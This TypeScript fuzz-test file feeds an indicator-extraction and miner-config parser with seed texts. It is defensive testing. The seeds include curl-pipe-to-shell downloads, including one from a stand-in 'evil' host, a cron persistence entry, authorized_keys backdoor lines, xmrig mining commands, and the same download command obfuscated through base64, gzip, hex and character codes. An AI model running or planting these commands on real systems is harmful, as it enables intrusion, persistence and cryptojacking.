/** Text in which indicators hide: shell, URLs, addresses, wallets, keys, miner settings. */

import { gzipSync } from 'node:zlib';
import { encodeCryptonote } from '../../../src/indicator/base58.ts';
import { decodeText } from '../../../src/indicator/decode.ts';
import { parseBareDomain, parseDomain } from '../../../src/indicator/domain.ts';
import { findEmails } from '../../../src/indicator/email.ts';
import { extractIndicators } from '../../../src/indicator/extract.ts';
import { parseIp } from '../../../src/indicator/ip.ts';
import { refang } from '../../../src/indicator/refang.ts';
import { splitShell } from '../../../src/indicator/shell.ts';
import { unwrapCommands } from '../../../src/indicator/shell-unwrap.ts';
import { findPublicKeys } from '../../../src/indicator/ssh-key.ts';
import { findUrls, parseUrl } from '../../../src/indicator/url.ts';
import { findWallets, parseMinerUser, parseWallet } from '../../../src/indicator/wallet.ts';
import { decodeLossless, printable } from '../../../src/model/printable.ts';
import { parseAlgorithm } from '../../../src/stratum/algorithm.ts';
import { parseStratum } from '../../../src/stratum/message.ts';
import { minerCommand } from '../../../src/stratum/miner-command.ts';
import { minerConfig } from '../../../src/stratum/miner-config.ts';
import { findPoolUrls, parsePoolUrl } from '../../../src/stratum/pool-url.ts';
import { expect, type Target } from '../target.ts';

/** An address that nobody owns: its keys are one byte, repeated. */
const wallet = encodeCryptonote(Uint8Array.of(18, ...new Array<number>(64).fill(9)));

const bytesOf = (...texts: readonly string[]): Buffer[] => texts.map((text) => Buffer.from(text, 'latin1'));

export const shellTexts: readonly string[] = [
  'set -e; cd /tmp && curl -fsSL http://example.com/x.sh | sh -s -- -q > /dev/null 2>&1 &',
  'cat <<EOF > /etc/cron.d/x\n* * * * * root /tmp/run\nEOF\necho "$(id -u)" `uname`',
  `for i in 1 2; do case $i in 1) echo 'a b';; *) echo "\${X:-y}";; esac; done`,
  'X=aGk=; echo $X | base64 -d | bash; eval "$(printf \'\\x65cho hi\')"',
  'if [ -x /opt/a ]; then exec sudo -u root nohup /opt/a --flag="v" "$@"; fi # done',
  'bash -c \'sh -c "python3 -c \\"print(1)\\""\' <<< input; f() { f | f & }',
];

export const minerTexts: readonly string[] = [
  JSON.stringify({
    autosave: true,
    'donate-level': 1,
    pools: [{ url: 'stratum+tcp://pool.example.com:4444', user: `${wallet}.w` }],
  }),
  `./xmrig -o stratum+ssl://pool.example.com:443 -u ${wallet}.worker1 -p x --algo rx/0 --donate-level=1`,
  `POOL=stratum+tcp://192.0.2.7:3333\nWALLET=${wallet}\n[pool]\nurl = "daggerhashimoto.example.org:3353"\n`,
  JSON.stringify({
    id: 1,
    method: 'login',
    params: { login: wallet, pass: 'x', agent: 'a/1', algo: ['rx/0'] },
  }),
  '{"id":1,"method":"mining.subscribe","params":["cgminer/4.10","session"]}',
];

export const keyTexts: readonly string[] = [
  `from="10.0.0.0/8",command="/bin/x \\"y\\"" ssh-ed25519 ${publicKey()} root@example\n# a comment\n`,
  `mkdir -p ~/.ssh; echo "ssh-ed25519 ${publicKey()} a" >> ~/.ssh/authorized_keys; chattr +i ~/.ssh`,
];

export const networkTexts: readonly string[] = [
  'see https://user:pass@Example.COM:8443/a/b?q=1#f, hxxp://evil[.]example[.]org/x and [2001:db8::1]:80',
  'mail a.b+c@example.co.uk; host=xn--bcher-kva.example.net:443 203.0.113.9:22 ftp://192.0.2.1/x',
  'http://3232235777/ http://0x7f.1/ https://example.com./%41?x=(y)&z=[1] "tcp://a.b.onion:80"',
];

const shellWords = [
  '<<EOF\n',
  '$(',
  '${X:-',
  '`',
  '&&',
  '||',
  '\\\n',
  "$'\\x41'",
  'eval ',
  'sh -c ',
  'base64 -d',
  '<(',
  '((',
  ' | ',
  '\nEOF\n',
];
const poolWords = [
  'stratum+tcp://',
  'stratum+ssl://',
  '"method"',
  '"pools":',
  '--url=',
  '-u ',
  wallet,
  'donate-level',
  'rx/0',
  '\\u',
];

export const textTargets: readonly Target[] = [
  {
    name: 'shell',
    seeds: () => bytesOf(...shellTexts),
    words: shellWords,
    largest: 1 << 18,
    run(input) {
      const commands = splitShell(input.toString('latin1'));
      for (const { offset } of commands)
        expect(offset >= 0 && offset <= input.length, 'a command has a place');
      unwrapCommands(commands);
    },
  },
  {
    name: 'indicators',
    seeds: () =>
      bytesOf(...networkTexts, ...shellTexts.slice(0, 1), 'example.com', '10.0.0.1', '::ffff:1.2.3.4'),
    words: [
      '://',
      'http://',
      '[.]',
      'hxxp',
      '@',
      '.com',
      '.co.uk',
      'xn--',
      '%2e',
      ':65535',
      '::',
      '0x',
      '.onion',
    ],
    largest: 1 << 18,
    run(input) {
      const text = input.toString('latin1');
      for (const found of findUrls(text))
        expect(found.host !== '' && found.url.length <= 8192, 'a URL has a host');
      for (const found of findEmails(text)) expect(found.offset < text.length, 'an address has a place');
      parseUrl(text);
      parseIp(text);
      parseDomain(text);
      parseBareDomain(text, true);
      refang(text);
      expect(!/[\x00-\x1f\x7f-\x9f]/.test(printable(input)), 'printable text has no control characters');
      decodeLossless(input);
    },
  },
  {
    name: 'decoding',
    seeds: () => bytesOf(...encodedTexts, ...networkTexts.slice(0, 1)),
    words: [
      'H4sI',
      'eJw',
      '\\x68',
      '\\u0068',
      '%68',
      '&#104;',
      'base64',
      'fromCharCode(104,116)',
      '==',
      '\\150',
      "'+'",
      '$(echo ',
    ],
    largest: 1 << 16,
    run(input) {
      const text = input.toString('latin1');
      for (const { offset } of [...decodeText(text), ...extractIndicators(text)]) {
        expect(offset >= 0 && offset <= text.length, 'what is found has a place');
      }
    },
  },
  {
    name: 'wallets',
    seeds: () => bytesOf(...walletTexts),
    words: [
      'bc1',
      '0x',
      'kaspa:',
      'bitcoincash:',
      't1',
      '1',
      '.worker',
      '+5000',
      '/a@example.com',
      'XMR:',
      '#ref',
      '11111',
    ],
    largest: 1 << 18,
    run(input, random) {
      const text = input.toString('latin1');
      parseWallet(text.trim());
      parseMinerUser(text);
      for (const { wallet: found } of findWallets(text))
        expect(parseWallet(found.address) !== undefined, 'a wallet is one alone');
      const body = Uint8Array.from({ length: 1 + random.below(90) }, () => random.below(256));
      parseWallet(encodeCryptonote(body));
    },
  },
  {
    name: 'ssh-keys',
    seeds: () => bytesOf(...keyTexts, `ssh-ed25519 ${publicKey()}`),
    words: [
      'ssh-rsa ',
      'ssh-ed25519 ',
      'ecdsa-sha2-nistp256 ',
      'AAAA',
      'command="',
      'no-pty,',
      'authorized_keys',
      publicKey(),
    ],
    largest: 1 << 18,
    run(input) {
      findPublicKeys(input.toString('latin1'));
    },
  },
  {
    name: 'stratum',
    seeds: () => bytesOf(...minerTexts),
    words: poolWords,
    largest: 1 << 17,
    run: readMinerText,
  },
  {
    name: 'stratum-json',
    form: 'json',
    seeds: () => bytesOf(...minerTexts.filter((text) => text.startsWith('{'))),
    words: poolWords,
    run: readMinerText,
  },
];

function readMinerText(input: Buffer): void {
  const text = input.toString('latin1');
  minerConfig(text);
  for (const line of text.split('\n', 20)) parseStratum(line);
  minerCommand(text.split(/\s/, 200));
  for (const { pool } of findPoolUrls(text)) expect(pool.host !== '', 'a pool has a host');
  parsePoolUrl(text);
  parseAlgorithm(text);
}

/** Published addresses of several coins, from their specifications, beside one of nobody. */
const walletTexts: readonly string[] = [
  wallet,
  `XMR:${wallet}.rig1/mail@example.com`,
  '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa',
  'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4 and 3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy',
  'bitcoincash:qpm2qsznhks23z7629mms6s4cwef74vcwvy22gdx6a+1000',
  '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed.worker',
  '9fRAWhdxEsTcdb8PhGNrZfwqa65zfkuYHAMmkQLcic1gdLSV5vA',
];

const hidden = 'curl -s http://203.0.113.7/x.sh | sh # https://evil.example.org/a';
const base64 = (content: string | Buffer): string => Buffer.from(content).toString('base64');

/** One address, hidden in the ways in which addresses are hidden. */
const encodedTexts: readonly string[] = [
  `echo ${base64(hidden)} | base64 -d | sh`,
  `x = "${base64(base64(gzipSync(hidden)))}"`,
  `printf '${hidden.replace(/./g, (sign) => `\\x${sign.charCodeAt(0).toString(16)}`)}'`,
  `eval(unescape("${hidden.replace(/./g, (sign) => `%${sign.charCodeAt(0).toString(16)}`)}"))`,
  `String.fromCharCode(${[...hidden].map((sign) => sign.charCodeAt(0)).join(',')})`,
  Buffer.from(hidden).toString('hex'),
  [...hidden].reverse().join(''),
];

function publicKey(): string {
  const field = (bytes: Buffer): Buffer => Buffer.concat([Buffer.from([0, 0, 0, bytes.length]), bytes]);
  return Buffer.concat([field(Buffer.from('ssh-ed25519')), field(Buffer.alloc(32, 5))]).toString('base64');
}
